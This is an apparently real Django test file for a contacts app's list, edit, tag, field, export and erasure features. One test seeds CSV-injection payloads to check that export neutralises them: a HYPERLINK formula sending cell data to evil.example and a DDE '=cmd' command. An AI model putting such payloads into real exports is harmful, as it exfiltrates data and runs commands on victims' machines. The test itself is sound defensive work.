"""Contacts: filters, keyset paging, create, edit, notes, tags, delete, export."""

from __future__ import annotations

import csv
import io
import json

from django.test import Client

from terminflow.contacts.consent import set_email_status
from terminflow.contacts.fields import create_field, list_fields
from terminflow.contacts.models import ConsentEvent, Contact, Erasure
from terminflow.contacts.services import create_contact
from terminflow.contacts.tags import tag_names
from terminflow.web.views.contacts import PAGE_SIZE
from tests.contacts.factories import DOI_PROOF


def _emails(response) -> list[str]:
    return [c.email for c in response.context["contacts"]]


def test_search_and_filters_narrow_the_list(editor_client: Client, workspace) -> None:
    # given
    create_field(workspace, key="city", type="text", label="Ort")
    create_field(workspace, key="vip", type="checkbox", label="VIP")
    create_contact(
        workspace, email="anna@example.com", first_name="Anna", fields={"city": "Zürich"}
    )
    create_contact(
        workspace,
        email="ben@example.com",
        email_status="confirmed_doi",
        doi_proof=DOI_PROOF,
        tags=["stamm"],
        fields={"vip": True},
    )
    create_contact(workspace, email="carla@example.com", last_name="Annaheim")
    # when / then
    assert _emails(editor_client.get("/contacts/?q=anna")) == [
        "carla@example.com",
        "anna@example.com",
    ]
    assert _emails(editor_client.get("/contacts/?status=confirmed_doi")) == ["ben@example.com"]
    assert _emails(editor_client.get("/contacts/?tag=stamm")) == ["ben@example.com"]
    assert _emails(editor_client.get("/contacts/?field=city&value=zür")) == ["anna@example.com"]
    assert _emails(editor_client.get("/contacts/?field=vip&value=ja")) == ["ben@example.com"]
    assert _emails(editor_client.get("/contacts/?field=city")) == ["anna@example.com"]
    assert _emails(editor_client.get("/contacts/?field=nonexistent&value=x")) == [
        "carla@example.com",
        "ben@example.com",
        "anna@example.com",
    ]


def test_keyset_paging_walks_forward_and_back(editor_client: Client, workspace) -> None:
    # given one page and three more contacts
    for n in range(PAGE_SIZE + 3):
        create_contact(workspace, email=f"c{n:03d}@example.com")
    # when
    first = editor_client.get("/contacts/")
    second = editor_client.get(f"/contacts/?before={first.context['older']}")
    back = editor_client.get(f"/contacts/?after={second.context['newer']}")
    # then
    assert len(_emails(first)) == PAGE_SIZE
    assert _emails(first)[0] == f"c{PAGE_SIZE + 2:03d}@example.com"
    assert first.context["newer"] is None
    assert _emails(second) == ["c002@example.com", "c001@example.com", "c000@example.com"]
    assert second.context["older"] is None
    assert _emails(back) == _emails(first)


def test_htmx_filter_returns_only_the_table(editor_client: Client, workspace) -> None:
    # given
    create_contact(workspace, email="anna@example.com")
    # when
    response = editor_client.get("/contacts/?q=anna", headers={"HX-Request": "true"})
    # then
    body = response.content.decode()
    assert "anna@example.com" in body
    assert "<html" not in body


def test_create_a_contact_with_fields_and_tags(editor_client: Client, workspace) -> None:
    # given
    create_field(workspace, key="birthday", type="date", label="Geburtstag")
    create_field(workspace, key="visit", type="datetime", label="Besuch")
    # when the visit is entered in the workspace's zone (Zurich, UTC+1 in January)
    response = editor_client.post(
        "/contacts/new/",
        {
            "email": "Lea@Example.com",
            "first_name": "Lea",
            "email_status": "confirmed_manual",
            "tags": "neu, vip",
            "field__birthday": "1991-05-06",
            "field__visit": "2027-01-10T09:30",
        },
    )
    # then
    contact = Contact.objects.get(workspace=workspace)
    assert response.status_code == 302
    assert response["Location"] == f"/contacts/{contact.pk}/"
    assert (contact.email, contact.first_name, contact.email_status) == (
        "lea@example.com",
        "Lea",
        "confirmed_manual",
    )
    assert contact.fields == {"birthday": "1991-05-06", "visit": "2027-01-10T08:30:00+00:00"}
    assert tag_names(contact) == ["neu", "vip"]
    assert list(ConsentEvent.objects.filter(contact=contact).values_list("source", flat=True)) == [
        "ui:editor@praxis.example"
    ]


def test_create_refuses_a_taken_email_and_stores_nothing_new(editor_client, workspace) -> None:
    # given
    create_contact(workspace, email="anna@example.com")
    # when
    response = editor_client.post(
        "/contacts/new/", {"email": "ANNA@example.com", "email_status": "unknown"}
    )
    # then
    assert response.status_code == 422
    assert Contact.objects.count() == 1


DOI_BY_HAND_DE = "den Status „Bestätigt (Double-Opt-in)“ kann niemand von Hand setzen."


def test_the_form_cannot_create_a_contact_confirmed_by_doi(editor_client, workspace) -> None:
    # when
    page = editor_client.get("/contacts/new/").content.decode()
    response = editor_client.post(
        "/contacts/new/",
        {"email": "lea@example.com", "email_status": "confirmed_doi", "tags": "neu"},
    )
    # then
    assert 'value="confirmed_doi"' not in page
    assert response.status_code == 422
    assert DOI_BY_HAND_DE in response.content.decode()
    assert (Contact.objects.count(), ConsentEvent.objects.count()) == (0, 0)


def test_the_form_cannot_move_a_contact_to_confirmed_by_doi(editor_client, workspace) -> None:
    # given
    contact = create_contact(workspace, email="anna@example.com", email_status="confirmed_soi")
    # when
    page = editor_client.get(f"/contacts/{contact.pk}/edit/").content.decode()
    response = editor_client.post(
        f"/contacts/{contact.pk}/edit/",
        {"email": "anna@example.com", "first_name": "Anna", "email_status": "confirmed_doi"},
    )
    # then
    assert 'value="confirmed_doi"' not in page
    assert response.status_code == 422
    assert DOI_BY_HAND_DE in response.content.decode()
    contact.refresh_from_db()
    assert (contact.first_name, contact.email_status) == ("", "confirmed_soi")
    assert ConsentEvent.objects.filter(contact=contact).count() == 1


def test_the_form_keeps_a_confirmed_double_opt_in(editor_client, workspace) -> None:
    # given a contact who confirmed the double opt-in
    contact = create_contact(workspace, email="anna@example.com")
    set_email_status(contact, "confirmed_doi", source="doi_link")
    # when
    page = editor_client.get(f"/contacts/{contact.pk}/edit/").content.decode()
    response = editor_client.post(
        f"/contacts/{contact.pk}/edit/",
        {"email": "anna@example.com", "first_name": "Anna", "email_status": "confirmed_doi"},
    )
    # then
    assert 'value="confirmed_doi" selected' in page
    assert response.status_code == 302
    contact.refresh_from_db()
    assert (contact.first_name, contact.email_status) == ("Anna", "confirmed_doi")


def test_edit_changes_fields_and_replaces_tags(editor_client, workspace) -> None:
    # given
    create_field(workspace, key="city", type="text", label="Ort")
    contact = create_contact(workspace, email="anna@example.com", tags=["alt"])
    # when
    response = editor_client.post(
        f"/contacts/{contact.pk}/edit/",
        {
            "email": "anna@example.com",
            "first_name": "Anna",
            "email_status": "unknown",
            "tags": "neu",
            "field__city": "Bern",
        },
    )
    # then
    contact.refresh_from_db()
    assert response.status_code == 302
    assert (contact.first_name, contact.fields) == ("Anna", {"city": "Bern"})
    assert tag_names(contact) == ["neu"]


def test_notes_and_tags_on_the_detail_page(editor_client, workspace) -> None:
    # given
    contact = create_contact(workspace, email="anna@example.com", tags=["alt"])
    # when
    editor_client.post(f"/contacts/{contact.pk}/notes/", {"text": "Ruft zurück."})
    editor_client.post(f"/contacts/{contact.pk}/tags/", {"add": "a, b"})
    editor_client.post(f"/contacts/{contact.pk}/tags/", {"remove": "alt"})
    # then
    assert list(contact.notes.values_list("text", "source")) == [
        ("Ruft zurück.", "ui:editor@praxis.example")
    ]
    assert tag_names(contact) == ["a", "b"]
    page = editor_client.get(f"/contacts/{contact.pk}/").content.decode()
    assert "Ruft zurück." in page


def test_delete_a_contact(editor_client, workspace) -> None:
    # given
    contact = create_contact(workspace, email="anna@example.com")
    # when
    response = editor_client.post(f"/contacts/{contact.pk}/delete/")
    # then
    assert response.status_code == 302
    assert Contact.objects.count() == 0


def test_export_writes_every_matching_contact_with_fields_and_tags(
    editor_client, workspace, other_workspace
) -> None:
    # given
    create_field(workspace, key="city", type="text", label="Ort")
    create_contact(workspace, email="anna@example.com", fields={"city": "Bern"}, tags=["b", "a"])
    create_contact(
        workspace, email="ben@example.com", email_status="confirmed_doi", doi_proof=DOI_PROOF
    )
    create_contact(other_workspace, email="foreign@example.com")
    # when
    response = editor_client.get("/contacts/export.csv")
    filtered = editor_client.get("/contacts/export.csv?status=confirmed_doi")
    # then
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [
        "email",
        "first_name",
        "last_name",
        "phone",
        "email_status",
        "tags",
        "city",
        "created_at",
    ]
    assert [r[:7] for r in rows[1:]] == [
        ["ben@example.com", "", "", "", "confirmed_doi", "", ""],
        ["anna@example.com", "", "", "", "unknown", "a, b", "Bern"],
    ]
    filtered_rows = list(
        csv.reader(io.StringIO(b"".join(filtered.streaming_content).decode("utf-8-sig")))
    )
    assert [r[0] for r in filtered_rows[1:]] == ["ben@example.com"]


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    editor_client, workspace
) -> None:
    # given values typed by contacts themselves (a form, an eTermin booking)
    create_field(workspace, key="notiz", type="text", label="Notiz")
    create_contact(
        workspace,
        email="mallory@example.com",
        first_name='=HYPERLINK("http://evil.example/?"&A1,"Klick")',
        last_name="-2+3",
        phone="+41 44 668 18 00",
        fields={"notiz": "@SUM(1+1)"},
        tags=["=cmd|' /C calc'!A0"],
    )
    create_contact(workspace, email="anna@example.com", first_name="Anna", last_name="a=b")
    # when
    response = editor_client.get("/contacts/export.csv")
    # then every dangerous start gets a leading apostrophe, and nothing else changes
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[:7] for r in rows[1:]] == [
        ["anna@example.com", "Anna", "a=b", "", "unknown", "", ""],
        [
            "mallory@example.com",
            '\'=HYPERLINK("http://evil.example/?"&A1,"Klick")',
            "'-2+3",
            "'+41446681800",
            "unknown",
            "'=cmd|' /C calc'!A0",
            "'@SUM(1+1)",
        ],
    ]


# -- fields and tags page: rename, relabel, delete ----------------------------------------------


def _page_messages(response) -> list[str]:
    # The workspace speaks German (de-CH), so the page's own messages come translated.
    return [str(m) for m in response.context["messages"]]


def _workspace_tags(workspace) -> list[str]:
    from terminflow.contacts.models import Tag

    return sorted(Tag.objects.filter(workspace=workspace).values_list("name", flat=True))


def test_editor_renames_a_tag(editor_client: Client, workspace) -> None:
    # given
    contact = create_contact(workspace, email="anna@example.com", tags=["vip"])
    # when
    response = editor_client.post(
        "/fields/", {"action": "rename_tag", "name": "vip", "new_name": "gold"}, follow=True
    )
    # then
    assert response.status_code == 200
    assert _page_messages(response) == ["Das Tag wurde in gold umbenannt."]
    assert tag_names(contact) == ["gold"]


def test_renaming_a_tag_to_a_taken_name_shows_the_conflict_and_changes_nothing(
    editor_client: Client, workspace
) -> None:
    # given
    contact = create_contact(workspace, email="anna@example.com", tags=["vip", "gold"])
    # when
    response = editor_client.post(
        "/fields/", {"action": "rename_tag", "name": "vip", "new_name": "gold"}, follow=True
    )
    # then
    assert _page_messages(response) == ["Ein Tag namens 'gold' existiert bereits."]
    assert tag_names(contact) == ["gold", "vip"]


def test_editor_deletes_a_tag_from_every_contact(editor_client: Client, workspace) -> None:
    # given
    anna = create_contact(workspace, email="anna@example.com", tags=["vip", "gold"])
    ben = create_contact(workspace, email="ben@example.com", tags=["vip"])
    # when
    response = editor_client.post("/fields/", {"action": "delete_tag", "name": "vip"}, follow=True)
    # then
    assert _page_messages(response) == ["Das Tag vip wurde bei 2 Kontakten entfernt und gelöscht."]
    assert (tag_names(anna), tag_names(ben)) == (["gold"], [])
    assert _workspace_tags(workspace) == ["gold"]


def test_editor_relabels_a_field(editor_client: Client, workspace) -> None:
    # given
    create_field(workspace, key="city", type="text", label="City")
    # when
    response = editor_client.post(
        "/fields/", {"action": "relabel_field", "key": "city", "label": "Ort"}, follow=True
    )
    # then
    assert _page_messages(response) == ["Das Feld city heisst jetzt Ort."]
    assert [(f.key, f.label) for f in response.context["fields"]] == [("city", "Ort")]


def test_editor_deletes_a_field_and_its_values(editor_client: Client, workspace) -> None:
    # given
    create_field(workspace, key="city", type="text", label="Ort")
    contact = create_contact(workspace, email="anna@example.com", fields={"city": "Bern"})
    # when
    response = editor_client.post(
        "/fields/", {"action": "delete_field", "key": "city"}, follow=True
    )
    # then
    assert _page_messages(response) == [
        "Das Feld city wurde gelöscht; bei 1 Kontakten wurde sein Wert entfernt."
    ]
    assert response.context["fields"] == []
    contact.refresh_from_db()
    assert contact.fields == {}


def test_deleting_a_field_an_active_campaign_uses_is_refused(
    editor_client: Client, workspace
) -> None:
    # given
    from terminflow.campaigns.models import Campaign, Element

    create_field(workspace, key="city", type="text", label="Ort")
    contact = create_contact(workspace, email="anna@example.com", fields={"city": "Bern"})
    campaign = Campaign.objects.create(workspace=workspace, name="Recall", status="active")
    Element.objects.create(
        campaign=campaign, key="e1", type="x", kind="condition", config={"field": "city"}
    )
    # when
    response = editor_client.post(
        "/fields/", {"action": "delete_field", "key": "city"}, follow=True
    )
    # then
    assert _page_messages(response) == [
        "Das Feld 'city' wird von diesen Kampagnen verwendet: Recall. "
        "Entfernen Sie es dort oder setzen Sie die Kampagnen zuerst auf Entwurf."
    ]
    assert [f.key for f in response.context["fields"]] == ["city"]
    contact.refresh_from_db()
    assert contact.fields == {"city": "Bern"}


def test_viewer_sees_no_buttons_and_cannot_change_tags_or_fields(
    viewer_client: Client, workspace
) -> None:
    # given
    create_field(workspace, key="city", type="text", label="Ort")
    contact = create_contact(
        workspace, email="anna@example.com", fields={"city": "Bern"}, tags=["vip"]
    )
    # when
    page = viewer_client.get("/fields/")
    responses = [
        viewer_client.post("/fields/", {"action": "rename_tag", "name": "vip", "new_name": "x"}),
        viewer_client.post("/fields/", {"action": "delete_tag", "name": "vip"}),
        viewer_client.post("/fields/", {"action": "relabel_field", "key": "city", "label": "X"}),
        viewer_client.post("/fields/", {"action": "delete_field", "key": "city"}),
    ]
    # then
    html = page.content.decode()
    assert 'value="rename_tag"' not in html
    assert 'value="delete_field"' not in html
    assert [r.status_code for r in responses] == [403, 403, 403, 403]
    contact.refresh_from_db()
    assert (tag_names(contact), contact.fields) == (["vip"], {"city": "Bern"})
    assert [(f.key, f.label) for f in page.context["fields"]] == [("city", "Ort")]


def test_editor_sees_the_manage_forms(editor_client: Client, workspace) -> None:
    create_field(workspace, key="city", type="text", label="Ort")
    create_contact(workspace, email="anna@example.com", tags=["vip"])
    html = editor_client.get("/fields/").content.decode()
    assert html.count('value="rename_tag"') == 1
    assert html.count('value="delete_tag"') == 1
    assert html.count('name="label:city"') == 1
    assert html.count('value="save"') == 1
    assert html.count('value="delete_field"') == 1


def test_manage_forms_refuse_posts_without_csrf_token(editor, workspace) -> None:
    # given
    from tests.web.conftest import logged_in

    create_field(workspace, key="city", type="text", label="Ort")
    contact = create_contact(workspace, email="anna@example.com", tags=["vip"])
    client = logged_in(editor, enforce_csrf_checks=True)
    # when
    responses = [
        client.post("/fields/", {"action": "rename_tag", "name": "vip", "new_name": "x"}),
        client.post("/fields/", {"action": "delete_tag", "name": "vip"}),
        client.post("/fields/", {"action": "delete_field", "key": "city"}),
    ]
    # then
    assert [r.status_code for r in responses] == [403, 403, 403]
    assert tag_names(contact) == ["vip"]
    assert _workspace_tags(workspace) == ["vip"]


def test_unknown_action_is_400(editor_client: Client, workspace) -> None:
    create_contact(workspace, email="anna@example.com", tags=["vip"])
    response = editor_client.post("/fields/", {"action": "explode", "name": "vip"})
    assert response.status_code == 400
    assert _workspace_tags(workspace) == ["vip"]


def test_one_save_relabels_fields_and_adds_a_field_with_a_key_made_from_its_label(
    editor_client: Client, workspace
) -> None:
    # given
    create_field(workspace, key="city", type="text", label="City")
    # when the page is saved once with a new label and a new field without a key
    response = editor_client.post(
        "/fields/",
        {
            "action": "save",
            "label:city": "Wohnort",
            "new-label": "Terminbeginn (Praxis Zürich)",
            "new-key": "",
            "new-type": "datetime",
            "new-options": "",
        },
        follow=True,
    )
    # then
    assert [(f.key, f.label, f.type) for f in response.context["fields"]] == [
        ("city", "Wohnort", "text"),
        ("terminbeginn_praxis_zuerich", "Terminbeginn (Praxis Zürich)", "datetime"),
    ]
    assert _page_messages(response) == [
        "Das Feld Terminbeginn (Praxis Zürich) wurde erstellt.",
        "1 Bezeichnung wurde gespeichert.",
    ]


def test_a_refused_new_field_keeps_the_relabels_unsaved(editor_client: Client, workspace) -> None:
    # given a field whose key the new one would take
    create_field(workspace, key="city", type="text", label="City")
    # when
    response = editor_client.post(
        "/fields/",
        {
            "action": "save",
            "label:city": "Wohnort",
            "new-label": "x",
            "new-key": "city",
            "new-type": "text",
        },
    )
    # then nothing is stored, and the typed label is still in the form
    assert response.status_code == 422
    assert [(f.key, f.label) for f in list_fields(workspace)] == [("city", "City")]
    assert 'value="Wohnort"' in response.content.decode()


def test_key_from_label() -> None:
    from terminflow.web.forms import key_from_label

    assert key_from_label("Terminbeginn") == "terminbeginn"
    assert key_from_label("Größe in cm") == "groesse_in_cm"
    assert key_from_label("2. Termin") == "f_2_termin"
    assert key_from_label("Café – Ort") == "cafe_ort"


def test_contact_page_formats_phone_and_reads_the_consent_ledger_as_sentences(
    editor_client: Client, workspace
) -> None:
    # given a contact created from an eTermin booking
    from terminflow.contacts.services import contact_from_booking
    from terminflow.etermin.services import connect_account

    account = connect_account(
        workspace, name="Praxis Seefeld", public_key="p", private_key="k", verify=False
    )
    contact, _ = contact_from_booking(
        workspace,
        email="lea@example.com",
        first_name="Lea",
        last_name="Brunner",
        phone="+41446681800",
        source="etermin",
        details={
            "account_id": account.pk,
            "appointment_uid": "u-1",
            "calendar_name": "Zahnreinigung",
            "calendar_id": 211614,
        },
    )
    # when
    html = editor_client.get(f"/contacts/{contact.pk}/").content.decode()
    # then
    assert '<dd data-testid="contact-phone">044 668 18 00</dd>' in html
    assert (
        "Single-Opt-in über eTermin-Buchung, Kalender «Zahnreinigung», Konto «Praxis Seefeld»."
        in html
    )
    assert "appointment_uid" not in html
    assert "calendar_id=" not in html


def test_contact_page_offers_export_and_erase_to_editors_only(
    editor_client: Client, viewer_client: Client, workspace
) -> None:
    contact = create_contact(workspace, email="anna@example.com")

    editor_html = editor_client.get(f"/contacts/{contact.pk}/").content.decode()
    viewer_html = viewer_client.get(f"/contacts/{contact.pk}/").content.decode()

    assert 'data-testid="export-person"' in editor_html
    assert 'data-testid="erase-person"' in editor_html
    assert "Daten löschen" in editor_html
    assert 'data-testid="erase-person"' not in viewer_html
    assert 'data-testid="export-person"' not in viewer_html


def test_export_button_downloads_the_persons_json(editor_client: Client, workspace) -> None:
    contact = create_contact(workspace, email="anna@example.com", first_name="Anna")

    response = editor_client.get(f"/contacts/{contact.pk}/export.json")

    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="contact-{contact.pk}.json"'
    data = json.loads(response.content)
    assert (data["contact"]["email"], data["contact"]["first_name"]) == ("anna@example.com", "Anna")


def test_erase_button_erases_and_leaves_a_pseudonymised_record(
    editor_client: Client, workspace
) -> None:
    contact = create_contact(workspace, email="anna@example.com")

    response = editor_client.post(f"/contacts/{contact.pk}/erase/")

    assert response.status_code == 302
    assert Contact.objects.count() == 0
    assert Erasure.objects.filter(workspace=workspace).count() == 1


def test_viewer_cannot_export_or_erase_and_nothing_changes(
    viewer_client: Client, workspace
) -> None:
    contact = create_contact(workspace, email="anna@example.com")

    export = viewer_client.get(f"/contacts/{contact.pk}/export.json")
    erase = viewer_client.post(f"/contacts/{contact.pk}/erase/")

    assert (export.status_code, erase.status_code) == (403, 403)
    assert Contact.objects.filter(pk=contact.pk).exists()
    assert Erasure.objects.count() == 0


def test_erase_without_csrf_token_is_refused(editor, workspace) -> None:
    from tests.web.conftest import logged_in

    contact = create_contact(workspace, email="anna@example.com")
    client = logged_in(editor, enforce_csrf_checks=True)

    response = client.post(f"/contacts/{contact.pk}/erase/")

    assert response.status_code == 403
    assert Contact.objects.filter(pk=contact.pk).exists()
    assert Erasure.objects.count() == 0


def test_erase_of_another_workspaces_contact_is_404(editor_client: Client, other_workspace) -> None:
    stranger = create_contact(other_workspace, email="anna@example.com")

    response = editor_client.post(f"/contacts/{stranger.pk}/erase/")

    assert response.status_code == 404
    assert Contact.objects.filter(pk=stranger.pk).exists()
    assert Erasure.objects.count() == 0
